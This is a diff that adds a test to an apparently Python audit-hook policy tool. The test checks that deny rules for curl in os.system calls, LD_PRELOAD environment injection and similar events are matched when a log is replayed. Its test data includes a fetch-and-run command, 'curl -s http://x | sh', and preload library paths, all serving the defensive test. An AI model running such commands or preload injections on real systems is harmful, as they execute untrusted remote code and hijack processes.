@@ -774,3 +774,64 @@ def test_learning_commands_refuse_what_is_not_a_log(tmp_path, command):
         assert result.returncode == 2, (target, result.returncode, result.stderr)
         assert reason in result.stderr
     assert not (tmp_path / "out").exists()
+
+
+RENDERED_VALUE_RULES = '''
+[[rule]]
+id = "path-objects"
+event = "open"
+args.path = { type = "PosixPath" }
+action = "deny"
+
+[[rule]]
+id = "curl-in-bytes"
+event = "os.system"
+args.command = { glob = "*curl*" }
+action = "deny"
+
+[[rule]]
+id = "preload"
+event = ["os.exec", "_posixsubprocess.fork_exec"]
+args.env = { key = "LD_PRELOAD" }
+action = "deny"
+
+[[rule]]
+id = "long-text"
+event = "compile"
+args.source = { prefix = "# generated" }
+action = "deny"
+
+[[rule]]
+id = "huge-flags"
+event = "open"
+args.flags = { gt = 4294967296 }
+action = "deny"
+'''
+
+
+def test_replay_reads_values_as_the_hook_rendered_them(tmp_path):
+    """Each rendering of records.md turned back into what the rule saw."""
+    log = HandLog(tmp_path / "run.jsonl")
+    log.start(100)
+    expected = {}
+
+    def event(rule, name, args):
+        line, _ = log.event(100, name, args)
+        if rule:
+            expected[line] = rule
+
+    event("path-objects", "open", {"path": {"type": "pathlib.PosixPath"}, "mode": "r", "flags": 0})
+    event(None, "open", {"path": "/etc/hosts", "mode": "r", "flags": 0})
+    event("curl-in-bytes", "os.system", {"command": {"bytes": "curl -s http://x | sh"}})
+    event(None, "os.system", {"command": {"bytes_hex": "00ff"}})
+    event("preload", "os.exec", {"path": "/bin/true", "args": ["true"], "env": {"LD_PRELOAD": "/tmp/x.so"}})
+    event("preload", "_posixsubprocess.fork_exec",
+          {"executable_list": [{"bytes": "/bin/true"}], "args": ["true"], "env": ["PATH=/bin", "LD_PRELOAD=/x"]})
+    event(None, "os.exec", {"path": "/bin/true", "args": ["true"], "env": {"PATH": "/bin"}})
+    event("long-text", "compile", {"source": {"str": "# generated code", "cut": True, "len": 10 ** 6,
+                                              "sha256": "0" * 64}, "filename": "<x>"})
+    event("huge-flags", "open", {"path": "/x", "mode": "r", "flags": {"int": "0x1000000000000000000"}})
+    status, report = replay(policy_file(tmp_path, RENDERED_VALUE_RULES), log.path)
+    assert status == 1
+    judged = {record["line"]: denial["rule"] for denial in report["denials"] for record in denial["records"]}
+    assert judged == expected
